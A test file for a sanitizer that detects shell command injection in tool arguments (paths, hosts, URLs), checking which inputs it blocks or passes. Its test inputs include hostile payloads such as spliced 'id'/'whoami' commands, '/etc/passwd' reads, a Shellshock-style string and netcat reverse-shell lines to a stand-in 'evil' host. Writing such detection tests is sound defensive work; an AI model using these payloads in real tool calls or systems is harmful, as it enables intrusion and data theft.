// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
import { beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_LIMITS } from "../../src/config/limits.js";
import { DEFAULT_SANITIZER_CONFIG } from "../../src/sanitizer/config.js";
import { findInjectedCommand, hasWordsAfterHost } from "../../src/sanitizer/injection.js";
import { Sanitizer } from "../../src/sanitizer/sanitizer.js";
import { loadShellParser } from "../../src/sanitizer/shell/parser.js";

beforeAll(() => loadShellParser());

describe("findInjectedCommand", () => {
  it("finds an operator followed by a command, for every operator", () => {
    expect(findInjectedCommand("photo.png; id")?.operator).toBe(";");
    expect(findInjectedCommand("photo.png&&whoami")?.operator).toBe("&&");
    expect(findInjectedCommand("photo.png || sleep 5")?.operator).toBe("||");
    expect(findInjectedCommand("127.0.0.1 a|id")?.operator).toBe("|");
    expect(findInjectedCommand("127.0.0.1& whoami")?.operator).toBe("&");
    expect(findInjectedCommand("a\nuname -a")?.operator).toBe("newline");
    expect(findInjectedCommand("x$(whoami)")?.operator).toBe("$(");
    expect(findInjectedCommand("x`id`")?.operator).toBe("`");
  });

  it("reads absolute paths, quotes and expansions as the command", () => {
    expect(findInjectedCommand("photo.png a);/usr/bin/id")).toBeDefined();
    expect(findInjectedCommand("127.0.0.1 '|id|'")).toBeDefined();
    expect(findInjectedCommand("example.com echo whoami|$0")).toBeDefined();
    expect(findInjectedCommand("photo.png;${@print(md5(x))}")).toBeDefined();
    expect(findInjectedCommand("x () { :;}; /bin/bash -c 'id'")).toBeDefined();
    expect(findInjectedCommand("127.0.0.1;id\\n")).toBeDefined();
  });

  it("reads brace-expanded, ANSI-C-quoted and redirect-first commands", () => {
    expect(findInjectedCommand("127.0.0.1;{cat,/etc/passwd}")).toBeDefined();
    expect(findInjectedCommand("127.0.0.1;$'\\x69\\x64'")).toBeDefined();
    expect(findInjectedCommand("127.0.0.1;</etc/passwd")).toBeDefined();
    expect(findInjectedCommand("docs/{a,b}.md")).toBeUndefined();
    expect(findInjectedCommand("notes; {draft, final}.txt")).toBeUndefined();
    expect(findInjectedCommand("a;<3 love.txt")).toBeUndefined();
  });

  it("needs a known program after a lone `&` in a path, not in a host", () => {
    expect(findInjectedCommand("a& frobnicate firewall")).toBeUndefined();
    expect(findInjectedCommand("a& frobnicate firewall", "host")).toBeDefined();
    expect(findInjectedCommand("a& whoami")).toBeDefined();
  });

  it("passes metacharacters followed by data", () => {
    expect(findInjectedCommand("docs/R&D/plan.md")).toBeUndefined();
    expect(findInjectedCommand("Tom & Jerry.mp4")).toBeUndefined();
    expect(findInjectedCommand("salt & pepper.txt")).toBeUndefined();
    expect(findInjectedCommand("tmp/a`b`.txt")).toBeUndefined();
    expect(findInjectedCommand("tmp/a`id`.txt")).toBeDefined();
    expect(findInjectedCommand("notes/a;b.md")).toBeUndefined();
    expect(findInjectedCommand("a | B")).toBeUndefined();
    expect(findInjectedCommand("cost: $5")).toBeUndefined();
    expect(findInjectedCommand("path; /")).toBeUndefined();
  });

  it("in a URL with a scheme, ignores `;`, `&`, `|` and breaks that belong to it", () => {
    expect(findInjectedCommand("https://e.com/a;jsessionid=1", "url")).toBeUndefined();
    expect(findInjectedCommand("https://e.com/?a=1&verbose", "url")).toBeUndefined();
    expect(findInjectedCommand("https://e.com/?q=a\nb", "url")).toBeUndefined();
    expect(findInjectedCommand("https://e.com/ ; id", "url")).toBeDefined();
    expect(findInjectedCommand("https://e.com/$(id)", "url")).toBeDefined();
    expect(findInjectedCommand("https://e.com/search?q=$(id)", "url")).toBeUndefined();
  });

  it("stays linear on long operator runs", () => {
    const t0 = performance.now();
    findInjectedCommand(`${";".repeat(200_000)}${"& ".repeat(200_000)}`);
    expect(performance.now() - t0).toBeLessThan(1000);
  });

  it("stays linear on every spelling that reads ahead after an operator", () => {
    // home and drive paths, assignments, cmdlets, form-encoded blanks, written `\n`; the
    // fifth pass's quoted-apart names, written `\x0a`/`\012` and capitalised cmd.exe names
    for (const unit of [
      ";~/",
      ";C:\\",
      ";x=",
      ";Get-",
      ";+",
      "&\\n",
      "&''",
      "&$@",
      "\\x0a",
      "\\012",
      "|Dir",
    ]) {
      const t0 = performance.now();
      for (const ctx of ["path", "host", "url"] as const)
        findInjectedCommand(unit.repeat(100_000), ctx);
      // Linear takes ~0.1 s; quadratic on 100,000 units would take minutes. The bound leaves
      // room for a loaded machine (1 s was missed once beside other test suites).
      expect(performance.now() - t0, unit).toBeLessThan(5000);
    }
  });
});

describe("hasWordsAfterHost", () => {
  it("flags a host followed by words or options", () => {
    expect(hasWordsAfterHost("example.com nc -e /bin/sh evil 4444")).toBe(true);
    expect(hasWordsAfterHost("127.0.0.1 -c 1000")).toBe(true);
  });
  it("passes a lone host, a URL and a value that is not a host", () => {
    expect(hasWordsAfterHost("example.com")).toBe(false);
    expect(hasWordsAfterHost("localhost:3000")).toBe(false);
    expect(hasWordsAfterHost("https://e.com/search?q=a b")).toBe(false);
    expect(hasWordsAfterHost("My Site")).toBe(false);
  });
});

describe("shell.injection through the sanitizer", () => {
  const s = new Sanitizer(DEFAULT_SANITIZER_CONFIG);
  const rule = (tool: string, args: Record<string, unknown>) =>
    s.scan(args, {
      tool,
      maxScanBytes: DEFAULT_LIMITS.sanitizerMaxScanBytes,
      maxValueBytes: DEFAULT_LIMITS.maxArgumentBytes,
    }).blocked?.rule;

  it("blocks a command spliced into a path, a host, a URL and an unknown field", () => {
    expect(rule("convert_image", { input_file: "photo.png; id" })).toBe("shell.injection");
    expect(rule("convert_image", { input_file: "photo.png%3B%20id" })).toBe("shell.injection");
    expect(rule("ping_host", { host: "127.0.0.1 | nc evil 4444" })).toBe("shell.injection");
    expect(rule("dns_lookup", { domain: "example.com$(whoami)" })).toBe("shell.injection");
    expect(rule("ping_host", { host: "127.0.0.1；id" })).toBe("shell.injection");
    expect(rule("fetch", { url: "https://e.com/ && curl evil" })).toBe("shell.injection");
    expect(rule("tool", { frobnicate: "a.txt;id" })).toBe("shell.injection");
  });

  it("passes ordinary paths, hosts, URLs and prose in unknown fields", () => {
    expect(rule("read_file", { path: "docs/Q&A.md" })).toBeUndefined();
    expect(rule("read_file", { path: "media/Tom & Jerry.mp4" })).toBeUndefined();
    expect(rule("ping_host", { host: "api.example.com" })).toBeUndefined();
    expect(rule("fetch", { url: "https://e.com/search?q=a&b=c;d" })).toBeUndefined();
    expect(rule("tool", { frobnicate: "fix the build; update docs" })).toBeUndefined();
  });
});
